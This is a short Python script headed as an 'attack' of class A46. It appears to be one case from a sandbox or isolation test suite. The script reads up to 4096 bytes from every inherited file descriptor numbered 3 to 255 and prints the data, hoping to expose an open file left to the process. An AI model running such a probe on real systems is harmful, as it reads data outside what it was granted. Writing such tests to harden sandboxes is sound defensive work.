# /// attack
# class = "A46"
# title = "reads every descriptor it was born with"
# hope = "an open file may be inherited"
# ///
import os
tried()
for number in range(3, 256):
    try:
        os.set_blocking(number, False)
        data = os.pread(number, 4096, 0)
    except OSError:
        continue
    print(data, flush=True)
